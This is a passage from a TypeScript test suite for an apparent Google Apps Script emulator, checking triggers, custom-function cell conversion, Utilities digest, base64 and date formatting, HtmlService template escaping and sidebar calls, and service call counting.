    ]);
    expect(app.run("mine", [], { user: EDITOR })).toEqual([["refresh", "CLOCK", "CLOCK"]]);
    expect(app.triggers.find((t) => t.owner === EDITOR)).toMatchObject({
      handler: "refresh",
      type: "CLOCK",
      everyDays: 1,
      atHour: 6,
      timeZone: "Europe/London",
    });
    app.run("removeAll");
    expect(app.triggers.map((t) => t.owner)).toEqual([EDITOR]);
  });

  it("caps a user at 20 triggers across all their documents", () => {
    const app = script(code);
    for (let i = 0; i < 20; i++) {
      app.triggers.push({
        uid: `seed${i}`,
        owner: OWNER,
        handler: "refresh",
        type: "CLOCK",
        source: "CLOCK",
        documentId: `doc${i}`,
        everyHours: 1,
      });
    }
    expect(() => app.run("hourly")).toThrow(
      "This script has too many triggers. Triggers must be deleted from the script before more can be added.",
    );
    expect(app.run("hourly", [], { user: EDITOR })).toMatch(/^\d+$/);
  });

  it("fires a trigger as its owner in FULL mode, with no UI", () => {
    const app = script(
      code.replace('"refresh").timeBased().everyHours', '"refreshQuietly").timeBased().everyHours'),
    );
    const uid = app.run("hourly", [], { user: EDITOR }) as string;
    expect(app.fireTrigger(uid)).toEqual([uid, "FULL", EDITOR, "Untitled spreadsheet"]);
    const loud = script(code);
    expect(() => loud.fireTrigger(loud.run("hourly") as string)).toThrow(
      "Cannot call SpreadsheetApp.getUi() from this context.",
    );
  });
});

describe("custom functions", () => {
  const code = `
    function OPENQR_ROW() { return [1, "a", true]; }
    function OPENQR_RAGGED() { return [[1, 2, 3], [4]]; }
    function OPENQR_HOLE() { return [[1, undefined]]; }
    function OPENQR_OBJECT() { return { a: 1 }; }
    function OPENQR_DATE() { return new Date(Date.UTC(2026, 0, 1)); }
    function OPENQR_NOTHING() {}
    function OPENQR_SLOW() { Utilities.sleep(20000); Utilities.sleep(15000); return 1; }
    function OPENQR_FAIL(id) { throw new Error("Unknown QR code: " + id); }
    function OPENQR_ECHO(range, cell, blank) { return [[range instanceof Array, range.length, cell, blank === ""]]; }
    function OPENQR_PRIVATE_() { return 1; }
  `;
  const app = () => script(code);

  it("turns return values into cells as Sheets does", () => {
    const sheets = app();
    expect(sheets.runCustomFunction("OPENQR_ROW", [])).toEqual({ ok: true, value: [[1, "a", true]] });
    expect(sheets.runCustomFunction("OPENQR_RAGGED", [])).toEqual({
      ok: true,
      value: [
        [1, 2, 3],
        [4, "", ""],
      ],
    });
    expect(sheets.runCustomFunction("OPENQR_DATE", [])).toEqual({
      ok: true,
      value: new Date(Date.UTC(2026, 0, 1)),
    });
    expect(sheets.runCustomFunction("OPENQR_NOTHING", [])).toEqual({ ok: true, value: "" });
    expect(sheets.runCustomFunction("OPENQR_HOLE", [])).toMatchObject({
      ok: false,
      error: expect.stringContaining("undefined"),
    });
    expect(sheets.runCustomFunction("OPENQR_OBJECT", [])).toMatchObject({
      ok: false,
      error: expect.stringContaining("not a cell value"),
    });
  });

  it("passes ranges as 2-D arrays and blank cells as empty strings", () => {
    expect(app().runCustomFunction("openqr_echo", [[[1], [2]], 5, ""])).toEqual({
      ok: true,
      value: [[true, 2, 5, true]],
    });
  });

  it("reports thrown errors, the 30 s limit, and unknown or private names", () => {
    const sheets = app();
    expect(sheets.runCustomFunction("OPENQR_FAIL", ["q1"])).toEqual({
      ok: false,
      error: "Unknown QR code: q1",
    });
    expect(sheets.runCustomFunction("OPENQR_SLOW", [])).toEqual({
      ok: false,
      error: "Exceeded maximum execution time",
    });
    expect(sheets.runCustomFunction("OPENQR_PRIVATE_", [])).toEqual({
      ok: false,
      error: "Unknown function: 'OPENQR_PRIVATE_'.",
    });
    expect(sheets.runCustomFunction("OPENQR_MISSING", [])).toEqual({
      ok: false,
      error: "Unknown function: 'OPENQR_MISSING'.",
    });
  });

  it("reports an empty active user and the owner as effective user", () => {
    const sheets = script(
      `function OPENQR_WHO() { return [[Session.getActiveUser().getEmail(), Session.getEffectiveUser().getEmail()]]; }`,
    );
    expect(sheets.runCustomFunction("OPENQR_WHO", [], { user: EDITOR })).toEqual({
      ok: true,
      value: [["", OWNER]],
    });
  });
});

describe("Utilities", () => {
  it("computes digests as Java's signed bytes", () => {
    const app = script(`
      function digest(text) { return Utilities.computeDigest(Utilities.DigestAlgorithm.SHA_256, text, Utilities.Charset.UTF_8); }
      function md5(text) { return Utilities.computeDigest(Utilities.DigestAlgorithm.MD5, text); }
    `);
    const signed = (buffer: Buffer) => Array.from(buffer, (byte) => (byte > 127 ? byte - 256 : byte));
    const digest = app.run("digest", ["héllo"]) as number[];
    expect(digest).toEqual(signed(createHash("sha256").update("héllo", "utf8").digest()));
    expect(digest.some((byte) => byte < 0)).toBe(true);
    expect(app.run("md5", ["x"])).toEqual(signed(createHash("md5").update("x").digest()));
    expect(app.calls["Utilities.computeDigest"]).toBe(2);
  });

  it("encodes base64 (web-safe keeps padding)", () => {
    const app = script(`
      function enc() { return [Utilities.base64Encode("hé?>"), Utilities.base64EncodeWebSafe("hé?>"), Utilities.newBlob(Utilities.base64Decode(Utilities.base64Encode("hé"))).getDataAsString()]; }
    `);
    expect(app.run("enc")).toEqual([
      Buffer.from("hé?>").toString("base64"),
      Buffer.from("hé?>").toString("base64url") +
        "=".repeat((4 - (Buffer.from("hé?>").toString("base64url").length % 4)) % 4),
      "hé",
    ]);
  });

  it("formats dates with Java SimpleDateFormat patterns", () => {
    const app = script(
      `function fmt(tz, pattern) { return Utilities.formatDate(new Date(Date.UTC(2026, 6, 4, 13, 5, 9)), tz, pattern); }`,
    );
    const fmt = (tz: string, pattern: string) => app.run("fmt", [tz, pattern]);
    expect(fmt("Europe/London", "yyyy-MM-dd HH:mm:ss")).toBe("2026-07-04 14:05:09");
    expect(fmt("Europe/London", "yy M d H h a")).toBe("26 7 4 14 2 PM");
    expect(fmt("Europe/London", "EEE, d MMM yyyy hh:mm Z")).toBe("Sat, 4 Jul 2026 02:05 +0100");
    expect(fmt("America/Los_Angeles", "yyyy-MM-dd'T'HH:mm:ssXXX")).toBe("2026-07-04T06:05:09-07:00");
    expect(fmt("UTC", "XXX")).toBe("Z");
    expect(fmt("UTC", "'It''s' EEEE")).toBe("It's Saturday");
    expect(fmt("Asia/Kolkata", "HH:mm Z")).toBe("18:35 +0530");
  });
});

describe("HtmlService and UI", () => {
  const code = `
    function open() {
      var template = HtmlService.createTemplateFromFile("Sidebar");
      template.name = "<b>Ann</b>";
      var output = template.evaluate().setTitle("OpenQR").setSandboxMode(HtmlService.SandboxMode.IFRAME);
      SpreadsheetApp.getUi().showSidebar(output);
      return SpreadsheetApp.getUi().alert("Title", "Saved", SpreadsheetApp.getUi().ButtonSet.YES_NO);
    }
    function missing() { HtmlService.createHtmlOutputFromFile("Nope"); }
    function onOpen() { SpreadsheetApp.getUi().createAddonMenu().addItem("Open", "open").addSeparator().addToUi(); }
  `;

  it("evaluates templates with escaping, shows sidebars, records alerts", () => {
    const app = script(code, {
      html: { Sidebar: "<p><?= name ?></p><?!= name ?><? for (var i = 0; i < 2; i++) { ?>.<? } ?>" },
    });
    app.run("onOpen", [], { authMode: "LIMITED", event: {} });
    expect(app.run("open")).toBe("YES");
    expect(app.ui.sidebars[0]?.html).toBe("<p>&lt;b&gt;Ann&lt;/b&gt;</p><b>Ann</b>..");
    expect(app.ui.alerts).toEqual(["Title: Saved"]);
    app.ui.alertResponses.push("NO");
    expect(app.runMenuItem("Open")).toBe("NO");
    expect(() => app.run("missing")).toThrow("Exception: No HTML file named Nope was found.");
  });

  it("checks google.script.run's rules", () => {
    const app = script(
      `function save_(x) {} function stamp() { return { at: new Date() }; } function echo(x) { return x; }`,
    );
    expect(() => app.runFromSidebar("save_", [])).toThrow("Script function not found: save_");
    expect(() => app.runFromSidebar("echo", [{ when: new Date() }])).toThrow("illegal value");
    expect(app.runFromSidebar("stamp")).toBeNull();
    expect(app.runFromSidebar("echo", [{ a: [1] }])).toEqual({ a: [1] });
  });
});

describe("call counts", () => {
  it("counts every service method call and resets", () => {
    const app = script(`
      function work() {
        var range = SpreadsheetApp.getActiveSheet().getRange(1, 1, 2, 2);
        range.setValues([[1, 2], [3, 4]]);
        return range.getValues();
      }
    `);
    expect(app.run("work")).toEqual([
      [1, 2],
      [3, 4],
    ]);
    expect(app.calls).toMatchObject({
      "SpreadsheetApp.getActiveSheet": 1,
      "Sheet.getRange": 1,
      "Range.setValues": 1,
      "Range.getValues": 1,
    });
    app.resetCalls();
    expect(app.calls).toEqual({});
  });
});
